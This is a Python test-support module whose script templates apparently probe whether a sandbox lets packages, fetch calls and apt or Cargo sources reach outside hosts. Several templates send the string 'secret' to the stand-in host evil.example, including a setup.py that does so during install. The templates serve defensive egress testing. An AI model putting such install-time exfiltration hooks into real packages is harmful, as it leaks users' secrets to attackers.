"""clients_inside.py -- what clients.t runs inside: packages that send data out,
programs that fetch, files of repositories; and the examples in the manual."""
EVIL = "evil.example"
POST = ("require('https').request({host: '%s', method: 'POST', path: '/take'})"
        ".on('error', e => { console.error(e.code); %s }).end('secret')")
SETUP = """import urllib.request
try:
    urllib.request.urlopen("https://%s/take", b"secret")
except OSError as e:
    print("TOLD", e)
from setuptools import setup
setup(name="posts", version="1.0", py_modules=["posts"])
""" % EVIL
FETCH = """const say = async u => {
  try { return (await (await fetch(u)).text()).trim() }
  catch (e) { return e.cause ? e.cause.code : String(e) }
}
console.log(JSON.stringify([await say('https://site.example/page'),
  await say('https://evil.example/'), await say(`https://${process.argv[2]}/page`),
  process.env.HTTPS_PROXY ?? process.env.https_proxy ?? null]))
"""
PYTHON = """import asyncio, json, os, ssl, urllib.request
def get(url):
    try:
        return urllib.request.urlopen(url, timeout=20).read().decode().strip()
    except OSError as e:
        return type(getattr(e, "reason", e)).__name__
async def stream(host):
    try:
        r, w = await asyncio.open_connection(
            host, 443, ssl=ssl.create_default_context())
    except OSError as e:
        return type(e).__name__
    w.write(b"GET /page HTTP/1.0\\r\\nHost: %s\\r\\n\\r\\n" % host.encode())
    text = (await r.read()).decode()
    w.close()
    return text.rsplit("\\n", 2)[-2].strip()
print(json.dumps([get("https://site.example/page"), get("https://evil.example/"),
    asyncio.run(stream("site.example")), asyncio.run(stream("evil.example")),
    [k for k in os.environ if k.lower().endswith("_proxy")]]))
"""
APT = """mkdir -p state/lists/partial cache/archives/partial conf &&
echo "deb [trusted=yes] $1://deb.example/ ./" >conf/list &&
set -- -o Dir::Etc::sourcelist=/scratch/conf/list -o Dir::Etc::main=/dev/null \
  -o Dir::Etc::parts=/dev/null -o Dir::Etc::sourceparts=/dev/null \
  -o Dir::State=/scratch/state -o Dir::State::status=/dev/null \
  -o Dir::Cache=/scratch/cache -o Acquire::https::CAInfo=/repo/ca.pem \
  -o Acquire::Retries=0 -o Acquire::EnableSrvRecords=false
apt-get "$@" update && apt-get "$@" download hello-test &&
dpkg-deb -I hello-test*.deb | grep '^ Package' || exit
echo "deb [trusted=yes] http://evil.example/ ./" >conf/list
apt-get "$@" update"""
CRATE = """[package]
name = "app"
version = "1.0.0"
edition = "2018"
[dependencies]
thing = "1"
"""
CARGO = """[source.crates-io]
replace-with = "own"
[source.own]
registry = "%s"
[net]
git-fetch-with-cli = true
"""
GO_MOD = """module app.example/app

go 1.18

require mod.example/thing v1.0.0
"""


def manual(text):
    """(files, commands) of the examples with a registry of one's own, as typed:
    "$ cat FILE" is followed by what is in the file."""
    text = text[text.index("$ cat .npmrc"):]
    text = text[:text.index("\n.EE")].replace("\\e\n", "\\\n")
    for written, meant in (("\\-", "-"), ("\\(aq", "'")):
        text = text.replace(written, meant)
    files, commands, at = {}, [], None
    for line in text.replace("\\\n", " ").splitlines():
        if line.startswith("$ cat "):
            at = line[6:]
            files[at] = ""
        elif line.startswith("$ "):
            at = None
            commands.append(line[2:])
        else:
            files[at] += line + "\n"
    return files, commands
